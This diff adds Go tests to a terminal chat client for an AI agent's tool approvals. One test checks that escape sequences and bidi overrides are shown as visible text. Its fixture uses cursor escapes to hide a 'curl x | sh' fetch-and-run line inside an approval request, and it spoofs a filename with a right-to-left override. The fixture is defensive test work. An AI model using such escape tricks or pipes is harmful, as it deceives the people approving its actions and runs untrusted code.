@@ -1,6 +1,7 @@
 package chat
 
 import (
+	"fmt"
 	"bytes"
 	"context"
 	"errors"
@@ -328,5 +329,52 @@ func TestChatAsksForApprovals(t *testing.T) {
 	s.typeLine(t, "thanks")
 	if _, in := core.nextInbound(t); in.Text != "thanks" {
 		t.Errorf("after the decision, core got %q", in.Text)
+	}
+}
+
+// TestTheTerminalShowsWhatIsThere: escapes and bidi overrides in what core
+// or the model sends reach the terminal as visible text, never as
+// commands to it, in replies and in requests alike.
+func TestTheTerminalShowsWhatIsThere(t *testing.T) {
+	core := startCore(t)
+	s := startChat(t, core.socket, "")
+	connected(t, core, s)
+	core.route(t, contracts.KindOutbound, contracts.Outbound{Text: "all fine\x1b[2J\x1b[H\u202egnp.exe"})
+	s.screen.waitFor(t, `shelldon: all fine\x1b[2J\x1b[H<U+202E>gnp.exe`)
+	core.route(t, contracts.KindApprovalRequest, contracts.ApprovalRequest{Turn: "t1", Tool: "write_file\x1b[8m",
+		Note: "writes 5 bytes to notes.txt\r", Detail: "write tools/evil.py:\n\x1b[1A\x1b[2Kcurl x | sh"})
+	s.screen.waitFor(t, `shelldon asks to use write_file\x1b[8m: writes 5 bytes to notes.txt\r`)
+	s.screen.waitFor(t, "write tools/evil.py:\n          \\x1b[1A\\x1b[2Kcurl x | sh")
+	if strings.ContainsAny(s.screen.String(), "\x1b\r\u202e") {
+		t.Errorf("the terminal got a raw control or bidi character:\n%q", s.screen.String())
+	}
+}
+
+// TestALongDetailIsPaged: a long request shows a page at a time; /more
+// shows the next and does not answer the question.
+func TestALongDetailIsPaged(t *testing.T) {
+	core := startCore(t)
+	s := startChat(t, core.socket, "")
+	connected(t, core, s)
+	var lines []string
+	for i := range pageLines + 5 {
+		lines = append(lines, fmt.Sprintf("line %02d", i))
+	}
+	core.route(t, contracts.KindApprovalRequest, contracts.ApprovalRequest{Turn: "t1", Tool: "write_file", Note: "n", Detail: strings.Join(lines, "\n")})
+	s.screen.waitFor(t, "[… 5 more line(s): type /more to see them]")
+	if strings.Contains(s.screen.String(), fmt.Sprintf("line %02d", pageLines)) {
+		t.Fatal("the first page showed more than a page")
+	}
+	s.typeLine(t, MoreCommand)
+	s.screen.waitFor(t, fmt.Sprintf("line %02d", pageLines+4))
+	s.typeLine(t, "y")
+	select {
+	case env := <-core.inbox:
+		var d contracts.Decision
+		if env.Kind != contracts.KindDecision || env.Decode(&d) != nil || !d.Approve || d.Turn != "t1" {
+			t.Errorf("after /more, y sent %s %s; want the approval of t1", env.Kind, env.Body)
+		}
+	case <-time.After(waitLimit):
+		t.Fatal("y after /more sent nothing")
 	}
 }
